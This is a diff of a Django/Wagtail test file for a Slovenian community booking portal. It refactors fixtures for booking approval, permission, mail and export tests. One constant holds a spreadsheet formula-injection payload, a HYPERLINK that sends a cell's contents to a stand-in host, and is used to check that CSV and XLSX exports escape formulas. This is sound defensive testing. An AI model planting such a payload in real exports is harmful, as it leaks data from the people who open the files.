@@ -14,29 +14,22 @@ from portal.bookings.models import BookingRequest
 from portal.communities.provisioning import (
     add_community_editor,
     ensure_municipal_editors,
-    provision_community,
 )
 from portal.events.models import EventPage
 from portal.outbox.models import OutboxMessage
 from tests import builders
-from tests.builders import LJUBLJANA
+from tests.builders import at
 
 pytestmark = pytest.mark.django_db
 
-DAY = datetime.date.today() + datetime.timedelta(days=8)
+DAY = builders.today() + datetime.timedelta(days=8)
 LIST = "wagtailsnippets_bookings_bookingrequest:list"
 INSPECT = "wagtailsnippets_bookings_bookingrequest:inspect"
 EDIT = "wagtailsnippets_bookings_bookingrequest:edit"
 
 
-def at(hour):
-    return datetime.datetime.combine(DAY, datetime.time(hour), tzinfo=LJUBLJANA)
-
-
-def section(name, **fields):
-    ks = builders.community(f"KS {name}", **fields)
-    provision_community(ks)
-    ks.refresh_from_db()
+def with_space(ks, name):
+    """The KS and its space, open every day of the booked week from 8.00 to 22.00."""
     space = builders.space_with_hours(
         ks, f"Prostor {name}", weekly=[(DAY.weekday(), "08:00", "22:00")]
     )
@@ -44,29 +37,30 @@ def section(name, **fields):
 
 
 @pytest.fixture
-def golnik():
-    return section("Golnik")
+def golnik_space(golnik_provisioned):
+    return with_space(golnik_provisioned, "Golnik")
 
 
 @pytest.fixture
-def strazisce():
-    return section("Stražišče")
+def strazisce_space(strazisce_provisioned):
+    return with_space(strazisce_provisioned, "Stražišče")
 
 
 @pytest.fixture
 def zlato_polje():
     """A KS whose publishing needs municipal approval."""
-    return section("Zlato polje", requires_approval=True)
+    ks = builders.provisioned("KS Zlato polje", slug="zlato-polje", requires_approval=True)
+    return with_space(ks, "Zlato polje")
 
 
 def request_for(space, purpose="Vaja zbora", start=17, end=19, is_public=True):
-    return builders.booking_request(space, at(start), at(end), purpose, is_public)
+    return builders.booking_request(space, at(DAY, start), at(DAY, end), purpose, is_public)
 
 
 @pytest.fixture
-def ks_editor(golnik):
+def ks_editor(golnik_space):
     user = get_user_model().objects.create_user("ks-golnik", password="x")
-    add_community_editor(golnik[0], user)
+    add_community_editor(golnik_space[0], user)
     return user
 
 
@@ -85,10 +79,10 @@ def municipal():
 
 
 def test_a_ks_editor_lists_and_opens_only_their_own_ks_requests(
-    client, golnik, strazisce, ks_editor
+    client, golnik_space, strazisce_space, ks_editor
 ):
-    own = request_for(golnik[1], "Vaja zbora Golnik")
-    foreign = request_for(strazisce[1], "Vaja zbora Stražišče")
+    own = request_for(golnik_space[1], "Vaja zbora Golnik")
+    foreign = request_for(strazisce_space[1], "Vaja zbora Stražišče")
     client.force_login(ks_editor)
     listing = client.get(reverse(LIST)).content.decode()
     assert "Vaja zbora Golnik" in listing
@@ -102,7 +96,7 @@ def test_a_ks_editor_lists_and_opens_only_their_own_ks_requests(
     assert BookingRequest.objects.get(pk=foreign.pk).is_pending
 
 
-def test_no_one_adds_a_request_in_the_admin(client, golnik, municipal):
+def test_no_one_adds_a_request_in_the_admin(client, golnik_space, municipal):
     client.force_login(municipal)
     add_url = reverse("wagtailsnippets_bookings_bookingrequest:add")
     response = client.get(add_url)
@@ -110,20 +104,20 @@ def test_no_one_adds_a_request_in_the_admin(client, golnik, municipal):
     assert add_url not in client.get(reverse(LIST)).content.decode()
 
 
-def test_the_municipal_editor_sees_every_ks(client, golnik, strazisce, municipal):
-    request_for(golnik[1], "Vaja zbora Golnik")
-    request_for(strazisce[1], "Vaja zbora Stražišče")
+def test_the_municipal_editor_sees_every_ks(client, golnik_space, strazisce_space, municipal):
+    request_for(golnik_space[1], "Vaja zbora Golnik")
+    request_for(strazisce_space[1], "Vaja zbora Stražišče")
     client.force_login(municipal)
     listing = client.get(reverse(LIST)).content.decode()
     assert "Vaja zbora Golnik" in listing and "Vaja zbora Stražišče" in listing
-    filtered = client.get(reverse(LIST), {"status": "pending", "community": golnik[0].pk})
+    filtered = client.get(reverse(LIST), {"status": "pending", "community": golnik_space[0].pk})
     assert "Vaja zbora Stražišče" not in filtered.content.decode()
 
 
 def test_approving_marks_the_dates_taken_and_tells_the_requester(
-    client, golnik, ks_editor, sent_mail
+    client, golnik_space, ks_editor, sent_mail
 ):
-    booking = request_for(golnik[1])
+    booking = request_for(golnik_space[1])
     client.force_login(ks_editor)
     page = client.get(reverse(INSPECT, args=[booking.pk])).content.decode()
     assert "ana@example.org" in page
@@ -142,9 +136,11 @@ def test_approving_marks_the_dates_taken_and_tells_the_requester(
     assert EventPage.objects.count() == 0
 
 
-def test_approving_an_overlapping_request_is_refused_naming_the_clash(client, golnik, ks_editor):
-    first = request_for(golnik[1], "Vaja zbora")
-    second = request_for(golnik[1], "Rojstni dan", start=18, end=20)
+def test_approving_an_overlapping_request_is_refused_naming_the_clash(
+    client, golnik_space, ks_editor
+):
+    first = request_for(golnik_space[1], "Vaja zbora")
+    second = request_for(golnik_space[1], "Rojstni dan", start=18, end=20)
     client.force_login(ks_editor)
     client.post(reverse(INSPECT, args=[first.pk]), {"decision": "approve"})
     response = client.post(reverse(INSPECT, args=[second.pk]), {"decision": "approve"})
@@ -155,10 +151,10 @@ def test_approving_an_overlapping_request_is_refused_naming_the_clash(client, go
 
 
 def test_an_approval_is_saved_and_told_later_when_the_mail_server_is_down(
-    client, golnik, ks_editor, settings, sent_mail
+    client, golnik_space, ks_editor, settings, sent_mail
 ):
     settings.OUTBOX_EMAIL_BACKEND = "tests.mail_backends.RefusedBackend"
-    booking = request_for(golnik[1])
+    booking = request_for(golnik_space[1])
     client.force_login(ks_editor)
     response = client.post(
         reverse(INSPECT, args=[booking.pk]),
@@ -173,9 +169,9 @@ def test_an_approval_is_saved_and_told_later_when_the_mail_server_is_down(
     assert "Connection refused" in waiting.last_error
 
 
-def test_a_refused_approval_sends_no_mail(client, golnik, ks_editor):
-    first = request_for(golnik[1], "Vaja zbora")
-    second = request_for(golnik[1], "Rojstni dan", start=18, end=20)
+def test_a_refused_approval_sends_no_mail(client, golnik_space, ks_editor):
+    first = request_for(golnik_space[1], "Vaja zbora")
+    second = request_for(golnik_space[1], "Rojstni dan", start=18, end=20)
     client.force_login(ks_editor)
     client.post(reverse(INSPECT, args=[first.pk]), {"decision": "approve"})
     written = OutboxMessage.objects.count()
@@ -185,7 +181,7 @@ def test_a_refused_approval_sends_no_mail(client, golnik, ks_editor):
 
 
 def test_an_approval_that_postgresql_ends_in_a_deadlock_is_tried_again(
-    client, golnik, ks_editor, monkeypatch, sent_mail
+    client, golnik_space, ks_editor, monkeypatch, sent_mail
 ):
     """Two approvals marking overlapping dates at the same moment can each wait for the
     other's check against the exclusion constraint; PostgreSQL then ends one with a
@@ -195,7 +191,7 @@ def test_an_approval_that_postgresql_ends_in_a_deadlock_is_tried_again(
 
     from portal.bookings import decisions
 
-    booking = request_for(golnik[1])
+    booking = request_for(golnik_space[1])
     decide = decisions.decide
     calls = []
 
@@ -219,8 +215,8 @@ def test_an_approval_that_postgresql_ends_in_a_deadlock_is_tried_again(
     assert "odobren" in mail[-1].subject
 
 
-def test_approval_can_publish_the_booking_in_the_ks_calendar(client, golnik, ks_editor):
-    booking = request_for(golnik[1], "Delavnica šivanja")
+def test_approval_can_publish_the_booking_in_the_ks_calendar(client, golnik_space, ks_editor):
+    booking = request_for(golnik_space[1], "Delavnica šivanja")
     client.force_login(ks_editor)
     page = client.get(reverse(INSPECT, args=[booking.pk])).content.decode()
     assert "Objavi kot dogodek v koledarju KS" in page
@@ -233,12 +229,14 @@ def test_approval_can_publish_the_booking_in_the_ks_calendar(client, golnik, ks_
     assert "objavljen kot dogodek v koledarju KS" in response.content.decode()
     event = EventPage.objects.get()
     assert event.title == "Delavnica šivanja" and event.live
-    assert event.space_id == golnik[1].pk
-    assert event.get_parent().get_parent().pk == golnik[0].pk
+    assert event.space_id == golnik_space[1].pk
+    assert event.get_parent().get_parent().pk == golnik_space[0].pk
     client.logout()
     assert client.get(event.url).status_code == 200
-    assert "Delavnica šivanja" in public_event_titles(client, golnik[0])
-    week = client.get(golnik[1].url + "zasedenost/", {"teden": DAY.isoformat()}).content.decode()
+    assert "Delavnica šivanja" in public_event_titles(client, golnik_space[0])
+    week = client.get(
+        golnik_space[1].url + "zasedenost/", {"teden": DAY.isoformat()}
+    ).content.decode()
     assert week.count("Delavnica šivanja") == 1  # the event shows it, not twice
 
 
@@ -352,8 +350,8 @@ def test_under_municipal_approval_the_week_view_names_no_approved_booking(client
     assert "zasedeno" in week
 
 
-def test_declining_needs_a_message_and_sends_it(client, golnik, ks_editor, sent_mail):
-    booking = request_for(golnik[1])
+def test_declining_needs_a_message_and_sends_it(client, golnik_space, ks_editor, sent_mail):
+    booking = request_for(golnik_space[1])
     client.force_login(ks_editor)
     refused = client.post(reverse(INSPECT, args=[booking.pk]), {"decision": "decline"})
     assert refused.status_code == 400
@@ -370,11 +368,11 @@ def test_declining_needs_a_message_and_sends_it(client, golnik, ks_editor, sent_
 
 
 def test_declining_or_cancelling_a_request_passes_none_of_its_text_on(
-    client, golnik, ks_editor, sent_mail
+    client, golnik_space, ks_editor, sent_mail
 ):
     """A request may be spam sent to a stranger's address: refusing it must not relay it."""
     spam = [
-        request_for(golnik[1], "Kupite poceni zdravila na http://spam.example", start=h)
+        request_for(golnik_space[1], "Kupite poceni zdravila na http://spam.example", start=h)
         for h in (9, 12)
     ]
     client.force_login(ks_editor)
@@ -391,8 +389,8 @@ def test_declining_or_cancelling_a_request_passes_none_of_its_text_on(
     assert not [m for m in mail if "spam.example" in m.subject + m.body]
 
 
-def test_cancelling_an_approved_request_frees_the_time(client, golnik, ks_editor):
-    booking = request_for(golnik[1])
+def test_cancelling_an_approved_request_frees_the_time(client, golnik_space, ks_editor):
+    booking = request_for(golnik_space[1])
     decisions.approve(booking, ks_editor)
     client.force_login(ks_editor)
     client.post(
@@ -402,15 +400,15 @@ def test_cancelling_an_approved_request_frees_the_time(client, golnik, ks_editor
     booking.refresh_from_db()
     assert booking.status == BookingRequest.Status.CANCELLED
     assert not booking.dates.get().approved
-    assert request_for(golnik[1], "Sestanek").pk
+    assert request_for(golnik_space[1], "Sestanek").pk
     decisions.approve(BookingRequest.objects.get(purpose="Sestanek"), ks_editor)
 
 
 def test_the_listing_runs_a_fixed_number_of_queries(
-    client, golnik, municipal, django_assert_max_num_queries
+    client, golnik_space, municipal, django_assert_max_num_queries
 ):
     for number in range(3):
-        request_for(golnik[1], f"Sestanek {number}", start=8 + 2 * number, end=9 + 2 * number)
+        request_for(golnik_space[1], f"Sestanek {number}", start=8 + 2 * number, end=9 + 2 * number)
     client.force_login(municipal)
     client.get(reverse(LIST))
     with CaptureQueriesContext(connection) as few:
@@ -418,17 +416,17 @@ def test_the_listing_runs_a_fixed_number_of_queries(
     count = len(few)
     assert count <= 20
     for number in range(3, 13):
-        request_for(golnik[1], f"Sestanek {number}", start=8, end=9)
+        request_for(golnik_space[1], f"Sestanek {number}", start=8, end=9)
     client.get(reverse(LIST))  # new rows renew the content version: the site is read again
     with django_assert_max_num_queries(count):
         client.get(reverse(LIST))
 
 
-def test_a_space_moved_to_another_ks_takes_its_requests_along(golnik, strazisce):
-    booking = request_for(golnik[1])
-    golnik[1].move(strazisce[0], pos="last-child")
+def test_a_space_moved_to_another_ks_takes_its_requests_along(golnik_space, strazisce_space):
+    booking = request_for(golnik_space[1])
+    golnik_space[1].move(strazisce_space[0], pos="last-child")
     booking.refresh_from_db()
-    assert booking.community_id == strazisce[0].pk
+    assert booking.community_id == strazisce_space[0].pk
 
 
 HOSTILE = '=HYPERLINK("http://zlo.example/?"&A1;"Kliknite")'
@@ -453,10 +451,12 @@ def exported_rows(client, export):
 
 
 @pytest.mark.parametrize("export", ["csv", "xlsx"])
-def test_the_export_cannot_carry_a_formula_into_a_spreadsheet(client, golnik, municipal, export):
+def test_the_export_cannot_carry_a_formula_into_a_spreadsheet(
+    client, golnik_space, municipal, export
+):
     """What a requester typed is written as text: a cell that a spreadsheet would read as
     a formula gets a leading single quote (OWASP), the rest is left as typed."""
-    booking = request_for(golnik[1], HOSTILE)
+    booking = request_for(golnik_space[1], HOSTILE)
     BookingRequest.objects.filter(pk=booking.pk).update(
         organisation="+SUM(1;2)", name="@Ana", phone="-1+1", email="\tana@example.org"
     )
@@ -472,10 +472,12 @@ def test_the_export_cannot_carry_a_formula_into_a_spreadsheet(client, golnik, mu
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
 
 
-def test_the_csv_quotes_every_cell_so_a_semicolon_starts_no_new_cell(client, golnik, municipal):
+def test_the_csv_quotes_every_cell_so_a_semicolon_starts_no_new_cell(
+    client, golnik_space, municipal
+):
     """A spreadsheet set to split on `;` (as Slovenian Excel is) must not find a formula
     after a semicolon in a cell."""
-    request_for(golnik[1], "Vaja;=1+1")
+    request_for(golnik_space[1], "Vaja;=1+1")
     client.force_login(municipal)
     response = client.get(reverse(LIST), {"export": "csv"})
     content = b"".join(response.streaming_content).decode()
